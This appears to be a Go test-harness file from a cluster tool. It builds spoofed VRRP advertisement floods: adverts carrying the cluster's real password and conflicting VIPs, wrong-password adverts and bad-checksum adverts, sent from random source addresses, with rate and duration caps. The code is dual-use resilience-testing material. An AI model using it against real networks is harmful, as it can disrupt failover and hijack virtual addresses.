package flood

import (
	"errors"
	"fmt"
	"math/rand/v2"
	"net/netip"
	"time"

	"github.com/hactl/hactl/pkg/vrrp"
)

// Mode is the kind of hostile advert sent.
type Mode int

// The modes.
const (
	// ConflictingVIPs: adverts that pass authentication (Password, when
	// set) and advertise other VIPs, from a random source per packet.
	ConflictingVIPs Mode = iota
	// WrongPassword: VRRPv2 adverts with a password that is not
	// Password, from a random source per packet.
	WrongPassword
	// BadChecksum: adverts whose VRRP checksum does not verify, from
	// the one address Sources.Addr().
	BadChecksum
)

func (m Mode) String() string {
	switch m {
	case ConflictingVIPs:
		return "conflicting-vips"
	case WrongPassword:
		return "wrong-password"
	case BadChecksum:
		return "bad-checksum"
	}
	return fmt.Sprintf("mode(%d)", int(m))
}

// Limits of a flood: every flood ends.
const (
	MaxRate     = 100_000
	MaxDuration = time.Minute
	MaxCount    = 10_000_000
)

// Config describes a flood.
type Config struct {
	Mode Mode
	// Interface is the link to send on (multicast goes out there).
	Interface string
	// Dst is the destination: the VRRP group or a unicast peer.
	Dst netip.Addr
	// The advert: VRID, version (2 when zero), priority, interval (1 s
	// when zero), the VRRPv2 password of the attacked cluster ("" for
	// none) and the VIPs to advertise (ConflictingVIPs: others than the
	// cluster's).
	VRID     uint8
	Version  vrrp.Version
	Priority uint8
	Interval time.Duration
	Password string
	VIPs     []netip.Addr
	// Sources is where random sources are drawn from; BadChecksum sends
	// from Sources.Addr().
	Sources netip.Prefix
	// Rate is packets per second (at most MaxRate). The flood stops
	// after Count packets or Duration, whichever comes first; at least
	// one must be set, and both are capped (MaxCount, MaxDuration).
	Rate     int
	Count    int
	Duration time.Duration
	// Seed makes the random sources repeatable.
	Seed uint64
}

// Result is what a flood did.
type Result struct {
	Sent    int
	Errors  int
	Elapsed time.Duration
	// LastErr is the last send error, if any.
	LastErr error
}

// PPS is the rate achieved.
func (r Result) PPS() float64 {
	if r.Elapsed <= 0 {
		return 0
	}
	return float64(r.Sent) / r.Elapsed.Seconds()
}

func (c *Config) check() error {
	if c.Version == 0 {
		c.Version = vrrp.Version2
	}
	if c.Interval == 0 {
		c.Interval = time.Second
	}
	switch {
	case !c.Dst.Is4():
		return errors.New("flood: Dst must be an IPv4 address")
	case !c.Sources.IsValid() || !c.Sources.Addr().Is4():
		return errors.New("flood: Sources must be an IPv4 prefix")
	case c.Rate <= 0 || c.Rate > MaxRate:
		return fmt.Errorf("flood: rate %d: want 1..%d", c.Rate, MaxRate)
	case c.Count <= 0 && c.Duration <= 0:
		return errors.New("flood: set Count or Duration")
	case c.Mode == WrongPassword && c.Version != vrrp.Version2:
		return errors.New("flood: wrong-password floods are VRRPv2")
	case len(c.VIPs) == 0:
		return errors.New("flood: no VIPs to advertise")
	}
	if c.Count <= 0 || c.Count > MaxCount {
		c.Count = MaxCount
	}
	if c.Duration <= 0 || c.Duration > MaxDuration {
		c.Duration = MaxDuration
	}
	return nil
}

// builder makes the flood's packets: whole IPv4 packets, header included.
type builder struct {
	cfg  Config
	adv  vrrp.Advertisement
	rng  *rand.Rand
	base uint32
	mask uint32
}

func newBuilder(cfg Config) (*builder, error) {
	b := &builder{cfg: cfg, rng: rand.New(rand.NewPCG(cfg.Seed, cfg.Seed^0x9e3779b97f4a7c15))}
	b.adv = vrrp.Advertisement{Version: cfg.Version, VRID: cfg.VRID, Priority: cfg.Priority, Interval: cfg.Interval}
	pw := cfg.Password
	if cfg.Mode == WrongPassword {
		pw = "x" + cfg.Password
		if len(pw) > 8 {
			pw = pw[:8]
		}
	}
	if cfg.Version == vrrp.Version2 && pw != "" {
		data, err := vrrp.Password(pw)
		if err != nil {
			return nil, err
		}
		b.adv.AuthType, b.adv.AuthData = vrrp.AuthSimple, data
	}
	if err := b.adv.SetAddrs(cfg.VIPs...); err != nil {
		return nil, err
	}
	p := cfg.Sources.Masked()
	a4 := p.Addr().As4()
	b.base = uint32(a4[0])<<24 | uint32(a4[1])<<16 | uint32(a4[2])<<8 | uint32(a4[3])
	if bits := p.Bits(); bits < 32 {
		b.mask = 1<<(32-bits) - 1
	}
	return b, nil
}

// source is the next packet's source address.
func (b *builder) source() netip.Addr {
	if b.cfg.Mode == BadChecksum || b.mask == 0 {
		return b.cfg.Sources.Addr()
	}
	for {
		v := b.base | b.rng.Uint32()&b.mask
		// Skip the prefix's network and broadcast-like ends.
		if h := v & b.mask; h != 0 && h != b.mask {
			return netip.AddrFrom4([4]byte{byte(v >> 24), byte(v >> 16), byte(v >> 8), byte(v)})
		}
	}
}

// packet appends the next packet to buf[:0].
func (b *builder) packet(buf []byte) ([]byte, error) {
	src := b.source()
	dst := b.cfg.Dst
	s4, d4 := src.As4(), dst.As4()
	// IPv4 header: total length, ID and header checksum are the kernel's
	// to fill (IP_HDRINCL); the TTL is 255, as VRRP requires.
	buf = append(buf[:0], 0x45, 0xc0, 0, 0, 0, 0, 0, 0, 255, vrrp.Protocol, 0, 0)
	buf = append(buf, s4[:]...)
	buf = append(buf, d4[:]...)
	out, err := b.adv.Append(buf, src, dst)
	if err != nil {
		return nil, err
	}
	total := len(out)
	out[2], out[3] = byte(total>>8), byte(total)
	if b.cfg.Mode == BadChecksum {
		out[20+6] ^= 0xff // the VRRP checksum's first byte
	}
	return out, nil
}
